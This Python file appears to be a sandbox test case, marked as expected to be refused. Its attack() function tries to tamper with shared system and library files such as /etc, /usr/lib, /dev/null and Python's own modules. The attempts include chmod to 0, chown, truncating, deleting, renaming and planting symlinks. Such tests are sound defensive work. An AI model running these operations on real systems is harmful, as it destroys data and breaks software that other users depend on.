"""Goal: change, remove or rename files that others read"""
# held: refused

import os, sys

def attack():
    paths = ['/usr/lib', '/usr/bin/env', '/etc', '/dev/null', '/usr', os.__file__, sys.modules['json'].__file__]
    tricks = (
        lambda p: os.chmod(p, 0),
        lambda p: os.chown(p, 65534, 65534),
        lambda p: os.utime(p, (0, 0)),
        lambda p: os.truncate(p, 0) if p != '/dev/null' else os.unlink(p),
        os.unlink,
        lambda p: os.rename(p, p + '2'),
        lambda p: os.rename('/tmp', p),
        lambda p: os.setxattr(p, 'user.left', b'x'),
        lambda p: os.symlink('/tmp', p + '/left'),
    )
    for path in paths:
        for trick in tricks:
            try:
                trick(path)
                return path
            except OSError:
                pass
    return False
